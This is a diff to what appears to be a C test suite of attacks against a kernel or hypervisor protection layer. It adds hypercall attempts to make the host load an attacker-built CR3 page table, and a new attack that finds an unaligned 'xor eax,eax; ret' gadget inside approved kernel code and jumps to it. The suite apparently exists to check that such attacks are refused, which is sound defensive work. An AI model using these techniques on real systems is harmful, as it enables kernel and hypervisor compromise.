@@ -160,8 +160,11 @@ static enum outcome own_cr3(void)
 	kread(DIRECT_MAP + (cr3 & PTE_FRAME), top, sizeof(top));
 	top[300] = (kphys(va + 4096) & PTE_FRAME) | PTE_P | PTE_W; /* its own page table */
 	kwrite(va + 4096, top, sizeof(top));
-	if (RUN(swap, kphys(va + 4096), 0, &was))
-		return REFUSED;
+	if (RUN(swap, kphys(va + 4096), 0, &was)) /* then the host is asked to load it */
+		return khypercall(NTMM_HC_ROOT, kphys(va + 4096), 0, 0, 0) == 0 ||
+			       khypercall(NTMM_HC_CR3, kphys(va + 4096), 0, 0, 0) == 0
+			   ? SUCCEEDED
+			   : REFUSED;
 	note("own-cr3");
 	if (RUN(back, cr3, 0, &seen))
 		return FAILED;
@@ -251,6 +254,29 @@ static enum outcome cr_gadget(void)
 	return REFUSED;
 }
 
+/* Approved code, entered where no instruction was meant to begin: `xor %eax, %eax; ret`. */
+static enum outcome mid_instruction(void)
+{
+	static const uint8_t wanted[] = {0x31, 0xc0, 0xc3};
+	static uint8_t page[4096];
+	uint64_t va = place(VULNERABLE_TEXT), end = place(VULNERABLE_RODATA), result;
+
+	for (; va < end; va += sizeof(page) - 2) {
+		size_t n = end - va < sizeof(page) ? (size_t)(end - va) : sizeof(page);
+
+		if (kread(va, page, n))
+			continue;
+		for (size_t i = 1; i + 2 < n; i++) /* a prefix before it: `xor %r8d, %eax` */
+			if ((page[i - 1] & 0xf8) == 0x40 && memcmp(page + i, wanted, 3) == 0) {
+				result = 1;
+				return kcall(va + i, 7, 7, 7, 7, &result) == 0 && result == 0
+					   ? SUCCEEDED
+					   : FAILED;
+			}
+	}
+	return FAILED;
+}
+
 const struct attack attacks_state[] = {
     {"lstar", lstar},
     {"cstar", star},
@@ -265,5 +291,6 @@ const struct attack attacks_state[] = {
     {"own-gdt", own_gdt},
     {"own-idt", own_idt},
     {"cr-gadget", cr_gadget},
+    {"mid-instruction", mid_instruction},
     {0},
 };
